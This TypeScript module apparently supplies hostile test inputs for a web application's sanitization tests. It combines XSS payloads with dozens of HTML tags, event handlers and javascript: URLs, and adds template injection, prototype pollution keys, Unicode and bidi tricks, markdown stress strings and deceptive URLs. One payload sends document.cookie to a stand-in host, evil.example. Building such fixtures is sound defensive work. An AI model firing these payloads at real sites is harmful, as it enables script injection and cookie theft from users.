/** What somebody might send who means ill: payloads times the places they are hoped to work in. */

/** Each would set `owned` or open a dialog, if it ever became markup or script. */
const SCRIPTS = [
  "alert(1)",
  "window.owned=1",
  "top['al'+'ert'](document.domain)",
  "fetch('https://evil.example/?'+document.cookie)",
  "import('data:text/javascript,alert(1)')",
];

const MARKUP: readonly ((script: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt/x>${js}</sCrIpT>`,
  (js) => `"><script>${js}//`,
  (js) => `'--></style></title></textarea><script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img src=x onerror=${js}//`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text x=20 y=20>click</text></a>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  (js) => `<math href="javascript:${js}">click</math>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<body onload="${js}">`,
  (js) => `<details open ontoggle="${js}">x</details>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<form action="javascript:${js}"><button>go</button></form>`,
  (js) => `<a href="javascript:${js}">click</a>`,
  (js) => `<link rel=import href="data:text/html,<script>${js}</script>">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<template shadowrootmode=open><img src=x onerror="${js}"></template>`,
  (js) => `<style>@import 'javascript:${js}';</style>`,
  (js) => `<div style="background:url(javascript:${js})">x</div>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&#60;img src=x onerror=${js}&#62;`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
];

const ADDRESSES: readonly ((script: string) => string)[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `javascript://https://example.org/%0a${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `vbscript:${js}`,
  (js) => `blob:https://example.org/${js}`,
  (js) => `view-source:javascript:${js}`,
  (js) => `[click](javascript:${js})`,
  (js) => `[click](data:text/html;base64,PHNjcmlwdD4=${js})`,
  (js) => `![x](x"onerror="${js})`,
  (js) => `<javascript:${js}>`,
  (js) => `[x]: javascript:${js}\n[x]`,
  (js) => `https://example.org/"onmouseover="${js}`,
  (js) => `https://example.org/'onclick='${js}`,
  (js) => `https://example.org/<img src=x onerror=${js}>`,
  (js) => `https://example.org/\u202e${js}`,
  (js) => `http:javascript:${js}`,
];

const TEMPLATES = [
  "{{constructor.constructor('alert(1)')()}}",
  "$" + "{alert(1)}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  "{{7*7}}",
  "[[$" + "{7*7}]]",
  "{%raw%}<script>alert(1)</script>{%endraw%}",
  "`$" + "{alert(1)}`",
];

const NAMES_OF_OBJECTS = [
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "__defineGetter__",
  '{"__proto__":{"owned":1}}',
  '{"type":"signOut","signOut":{}}',
  "undefined",
  "null",
  "NaN",
  "[object Object]",
];

const STRANGE = [
  "\u202egnp.exe\u202c safe",
  "\u2066\u2067\u2068mixed\u2069\u2069\u2069",
  `${"\u202e".repeat(50)}backwards`,
  "a\u200bb\u200cc\u200dd\ufeffe",
  `Z${"\u0310\u0351\u036b".repeat(300)}algo`,
  "\u0001\u0002\u0007\u001b[31mred\u001b[0m",
  "a\u007f\u0080\u009f",
  "\u2028line\u2029paragraph",
  "a\ufffe\uffff",
  "\u{e0041}\u{e0042}tags",
  "👩‍👩‍👧‍👦".repeat(40),
  "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>rtl</b> \u200f",
  "A".repeat(3900),
  `${"\n".repeat(200)}far down`,
];

const MARKDOWN = [
  `${"*".repeat(1500)}a`,
  `${"_".repeat(1500)}a${"_".repeat(1500)}`,
  "`".repeat(1000),
  `${"**".repeat(900)}<img src=x onerror=alert(1)>${"**".repeat(900)}`,
  "~~*__`a".repeat(300),
  "```\n</code></pre><script>alert(1)</script>\n```",
  "```<script>alert(1)</script>```",
  "`</code><img src=x onerror=alert(1)>`",
  "**<b onclick=alert(1)>bold</b>**",
  "*_**__~~deep~~__**_*".repeat(100),
  "(".repeat(1900) + ")".repeat(1900),
  `https://${"(".repeat(1800)}`,
];

const TRICKS = [
  "https://example.org@evil.example/",
  "https://еxample.org/",
  "https://example.org\u2044path",
  "https://example.org:99999/",
  "https://[::1",
  "https://user:pass@example.org/?a=b&c=<d>#e",
  "http://%00/",
  "https:example.org",
  "//evil.example/x",
  "HTTPS://EXAMPLE.ORG/UP",
  "file:///etc/passwd",
  "ftp://example.org/",
  "intent://x#Intent;scheme=javascript;end",
  "mailto:a@example.org?body=<script>alert(1)</script>",
  "https://example.org/)**]}>",
];

/** Three hundred and more; none stands twice. */
export const HOSTILE: readonly string[] = [
  ...SCRIPTS.flatMap((js) => MARKUP.map((make) => make(js))),
  ...SCRIPTS.flatMap((js) => ADDRESSES.map((make) => make(js))),
  ...TEMPLATES,
  ...NAMES_OF_OBJECTS,
  ...STRANGE,
  ...MARKDOWN,
  ...TRICKS,
];

/** As names go, with one script for all places; the server takes some and refuses others, which is its right. */
export const HOSTILE_NAMES: readonly string[] = [
  ...[...MARKUP, ...ADDRESSES].map((make) => make("alert(1)")),
  ...TEMPLATES,
  ...NAMES_OF_OBJECTS,
  ...STRANGE.map((text) => text.slice(0, 64)),
  ...TRICKS.map((text) => text.slice(0, 64)),
];
